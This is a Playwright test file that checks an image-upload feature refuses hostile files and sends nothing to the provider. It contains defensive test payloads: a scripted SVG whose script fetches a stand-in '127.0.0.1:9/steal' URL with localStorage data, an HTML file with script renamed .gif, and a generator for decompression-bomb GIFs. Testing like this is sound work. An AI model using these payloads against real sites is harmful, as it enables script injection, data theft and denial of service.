// Issue 7, hostile files: pictures that are empty, not pictures, scripted SVG, cut short, bombs by
// their header, animated GIFs with a thousand frames over a 16-megapixel canvas, and random bytes
// behind every magic number the app knows (fast-check, fixed seed). Each is refused with a clear
// message or handled; the tab keeps answering; nothing is sent to the provider.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import fc from 'fast-check';
import { chatRequests, expect, pickImage, test, useVision, visionRequests, visionScenario } from './support';

/** A GIF89a of `width` x `height` with `frames` frames, each one 1x1 pixel: tiny on disk, huge decoded. */
function gif(width: number, height: number, frames: number): Buffer {
  const u16 = (n: number) => [n & 0xff, n >> 8];
  const bytes = [
    ...Buffer.from('GIF89a'),
    ...u16(width),
    ...u16(height),
    0b1000_0000, // global color table of 2 entries
    0,
    0,
    ...[0xff, 0xcc, 0x00, 0x33, 0x66, 0xff],
    // NETSCAPE2.0: loop forever
    0x21, 0xff, 0x0b, ...Buffer.from('NETSCAPE2.0'), 0x03, 0x01, 0x00, 0x00, 0x00,
  ];
  for (let i = 0; i < frames; i++) {
    const x = (i * 37) % width;
    const y = (i * 91) % height;
    bytes.push(0x21, 0xf9, 0x04, 0x00, ...u16(2), 0x00, 0x00); // 20 ms per frame
    bytes.push(0x2c, ...u16(x), ...u16(y), ...u16(1), ...u16(1), 0x00);
    bytes.push(0x02, 0x02, 0x44, 0x01, 0x00); // LZW: clear, pixel 0, end
  }
  bytes.push(0x3b);
  return Buffer.from(bytes);
}

const SCRIPTED_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="window.__pwned='svg'">
  <script>window.__pwned = 'svg script'; fetch('http://127.0.0.1:9/steal?k=' + localStorage.length)</script>
  <image href="http://127.0.0.1:9/pixel.png" width="10" height="10"/>
  <circle cx="100" cy="100" r="80" fill="gold"/>
</svg>`;

interface FileCase {
  name: string;
  file: { name: string; mimeType: string; buffer: Buffer };
  /** The message shown, or 'accepted' when the picture is usable. */
  outcome: RegExp | 'accepted';
}

const fixture = (name: string) => readFileSync(join(process.cwd(), 'tests/fixtures/images', name));

const CASES: FileCase[] = [
  { name: 'a zero-byte file', file: { name: 'empty.jpg', mimeType: 'image/jpeg', buffer: Buffer.alloc(0) }, outcome: /The file is empty/u },
  { name: 'a text file renamed .jpg', file: { name: 'notes.jpg', mimeType: 'image/jpeg', buffer: fixture('not-an-image.jpg') }, outcome: /not a picture the app can read/u },
  { name: 'an SVG with script', file: { name: 'evil.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(SCRIPTED_SVG) }, outcome: /not a picture the app can read/u },
  { name: 'an SVG renamed .png', file: { name: 'evil.png', mimeType: 'image/png', buffer: Buffer.from(SCRIPTED_SVG) }, outcome: /not a picture the app can read/u },
  { name: 'a truncated JPEG', file: { name: 'truncated.jpg', mimeType: 'image/jpeg', buffer: fixture('truncated.jpg') }, outcome: /could not be decoded/u },
  { name: 'a PNG whose header claims 20000x20000', file: { name: 'huge.png', mimeType: 'image/png', buffer: fixture('huge.png') }, outcome: /too large to open safely \(20000 × 20000 pixels\)/u },
  { name: 'an animated GIF of 9000x9000', file: { name: 'wide.gif', mimeType: 'image/gif', buffer: gif(9000, 9000, 50) }, outcome: /too large to open safely \(9000 × 9000 pixels\)/u },
  { name: 'an animated GIF of 4000x4000 with 1000 frames', file: { name: 'frames.gif', mimeType: 'image/gif', buffer: gif(4000, 4000, 1000) }, outcome: 'accepted' },
  { name: 'an HTML page renamed .gif', file: { name: 'page.gif', mimeType: 'image/gif', buffer: Buffer.from('<html><script>window.__pwned="html"</script></html>') }, outcome: /not a picture the app can read/u },
];

/** Known starts of files, so random bytes reach the header readers and decoders, not just the sniffer. */
const MAGIC: readonly number[][] = [
  [],
  [0xff, 0xd8, 0xff], // JPEG
  [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], // PNG
  [...Buffer.from('GIF89a')],
  [...Buffer.from('RIFF'), 0x10, 0, 0, 0, ...Buffer.from('WEBPVP8 ')],
  [0, 0, 0, 0x18, ...Buffer.from('ftypheic')],
  [...Buffer.from('BM')],
];

const RANDOM_SEED = 20261124;
const RANDOM_FILES = fc.sample(
  fc.tuple(fc.constantFrom(...MAGIC), fc.uint8Array({ minLength: 0, maxLength: 4096 })).map(([magic, rest]) => Buffer.from([...magic, ...rest])),
  { numRuns: 60, seed: RANDOM_SEED },
);

/** Picks a file and waits until the picture is either refused (the message) or ready. */
async function pick(page: Page, file: FileCase['file']): Promise<string | 'accepted'> {
  await page.getByLabel('Image', { exact: true }).setInputFiles(file);
  const refused = page.getByTestId('image-error');
  const accepted = page.getByTestId('image-info');
  await expect(refused.or(accepted)).toBeVisible();
  // The tab still answers at once.
  expect(await page.evaluate(() => 6 * 7)).toBe(42);
  return (await accepted.isVisible()) ? 'accepted' : ((await refused.textContent()) ?? '');
}

async function assertNothingRanOrLeft(page: Page, loaded: string[]): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null)).toBeNull();
  expect(loaded.filter((u) => u.includes(':9/'))).toEqual([]);
  expect(await chatRequests()).toHaveLength(0);
  expect(await visionRequests()).toHaveLength(0);
}

test.beforeEach(async ({ page }) => {
  await visionScenario('ok');
  await page.goto('/');
  await useVision(page);
});

test(`${CASES.length} hostile files are refused with a message or handled, and nothing is sent`, async ({ page }) => {
  const loaded: string[] = [];
  page.on('request', (r) => loaded.push(r.url()));
  for (const c of CASES) {
    await test.step(c.name, async () => {
      const outcome = await pick(page, c.file);
      if (c.outcome === 'accepted') {
        expect(outcome).toBe('accepted');
        // Sent as one still JPEG of at most 1024 px, not the animation.
        await expect(page.getByTestId('image-info')).toContainText('Will send 1024 × 1024 JPEG');
      } else {
        expect(outcome).toMatch(c.outcome);
        await expect(page.getByRole('button', { name: 'Analyze', exact: true })).toBeDisabled();
      }
    });
  }
  await assertNothingRanOrLeft(page, loaded);

  // After all of that, a real picture still goes through.
  await pickImage(page, 'smile.jpg');
  await page.getByRole('button', { name: 'Analyze', exact: true }).click();
  await expect(page.getByTestId('vision-top')).toHaveText('joy');
  expect(await chatRequests()).toHaveLength(1);
});

test(`${RANDOM_FILES.length} files of random bytes (fast-check, seed ${RANDOM_SEED}) are each refused with a message`, async ({ page }) => {
  const loaded: string[] = [];
  page.on('request', (r) => loaded.push(r.url()));
  const messages = new Map<string, number>();
  for (const [i, buffer] of RANDOM_FILES.entries()) {
    const outcome = await pick(page, { name: `random-${i}.jpg`, mimeType: 'image/jpeg', buffer });
    expect(outcome, `random file ${i} (${buffer.subarray(0, 12).toString('hex')}...)`).not.toBe('accepted');
    expect(outcome).toMatch(/^(The file is empty|This file is not a picture|The picture could not be decoded|The picture is too large to open safely|HEIC pictures)/u);
    messages.set(outcome.replace(/\(.*\)/u, '(...)'), (messages.get(outcome.replace(/\(.*\)/u, '(...)')) ?? 0) + 1);
  }
  // The inputs reached more than the sniffer: several different refusals were given.
  expect(messages.size).toBeGreaterThanOrEqual(3);
  await expect(page.getByRole('button', { name: 'Analyze', exact: true })).toBeDisabled();
  await assertNothingRanOrLeft(page, loaded);
});
